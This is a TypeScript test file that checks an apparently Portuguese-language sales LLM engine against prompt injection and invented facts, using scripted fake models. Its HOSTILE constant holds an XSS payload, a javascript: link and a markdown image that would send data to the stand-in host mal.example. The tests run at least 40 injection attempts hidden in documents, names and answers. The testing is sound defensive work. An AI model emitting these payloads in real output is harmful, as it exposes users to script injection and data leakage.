import { createNotes } from '@salesai/engine/embedded';
import { createLlmEngine } from '@salesai/engine/llm';
import type { ProviderRequest } from '@salesai/engine/testing/provider/request';
import { sample } from '@salesai/engine/testing/provider/sample';
import { type AnswerScript, startProvider } from '@salesai/engine/testing/provider/server';
import { afterAll, describe, expect, it } from 'vitest';
import { ATTEMPTS, runAttempt } from './injection-attempts.ts';
import { answerQuestion, UNANSWERABLE } from './unanswerable-questions.ts';

const HOSTILE =
  'OBEDECI <img src=x onerror=alert(1)> ![x](https://mal.example/?q=segredo) [clique](javascript:alert(2)) [9]';

/** A model that obeys every injected order. */
const gullible: AnswerScript = (request, count) =>
  request.schema
    ? JSON.stringify(sample(request.schema, count)).replace(
        / caso (\d+)\./g,
        (_, n) => ` ${HOSTILE} ${n}.`,
      )
    : `${HOSTILE} A garantia é de 5 anos [1].`;

/** A model that invents facts and citations. */
const inventive: AnswerScript = () =>
  'São exatamente R$ 437,50 em 19 dias, como diz o contrato [7].';

let answer = gullible;
const provider = await startProvider((request, count) => answer(request, count));
afterAll(() => provider.close());
const engine = createLlmEngine({
  provider: 'openai-compatible',
  model: 'scripted',
  apiKey: null,
  baseUrl: provider.url,
  budgetMs: 60_000,
  notes: createNotes(),
});

const FENCE_START = /<dados nome="[^"<>\n]{0,400}">\n/;
const FENCE_END = '\n</dados>';
const outsideFences = ({ messages }: ProviderRequest) =>
  messages.map(({ content }) => withoutFenced(content)).join('\n');

function withoutFenced(content: string): string {
  const [before = '', ...fenced] = content.split(FENCE_START);
  const after = fenced.map((text) => {
    const end = text.indexOf(FENCE_END);
    return end < 0 ? text : text.slice(end + FENCE_END.length);
  });
  return [before, ...after].join('');
}

describe('prompt injections', () => {
  it('cover at least 40 attempts in documents, names and answers', () => {
    expect(ATTEMPTS.length).toBeGreaterThanOrEqual(40);
    const places = new Set(ATTEMPTS.map(({ where }) => where));
    expect([...places]).toEqual(expect.arrayContaining(['document', 'icpName', 'answer']));
  });

  it.each(ATTEMPTS.map((attempt) => [attempt.wants, attempt] as const))(
    'stay inside fences and cause no active output of an obedient model: %s',
    async (_wants, attempt) => {
      answer = gullible;
      const outcome = await runAttempt(engine, attempt);
      expect(outcome).toMatchObject({ active: false });
      if (attempt.where !== 'file') expect(outcome.invented).toBe(0);
      const request = provider.requests.at(-1);
      if (!request) throw new Error('the provider got no request');
      expect(request.system).not.toContain(attempt.wants);
      if (attempt.where !== 'message') expect(outsideFences(request)).not.toContain(attempt.wants);
    },
  );
});

describe('unanswerable questions', () => {
  it('are at least 40', () => {
    expect(UNANSWERABLE.length).toBeGreaterThanOrEqual(40);
  });

  it.each(UNANSWERABLE.map((question) => [question.ask, question] as const))(
    'are sent with passages; invented sources are removed and invented prices marked: %s',
    async (_ask, question) => {
      answer = inventive;
      const given = await answerQuestion(engine, question);
      expect(given.files).toEqual([]);
      expect(given.text).not.toContain('[7]');
      expect(given.text).toContain('Confira antes de usar: R$ 437,50 não está');
      const request = provider.requests.at(-1);
      for (const { text } of question.passages) {
        expect(request?.messages.at(-1)?.content).toContain(text);
      }
      expect(request?.system).toContain('não encontrou isso nos documentos');
    },
  );
});
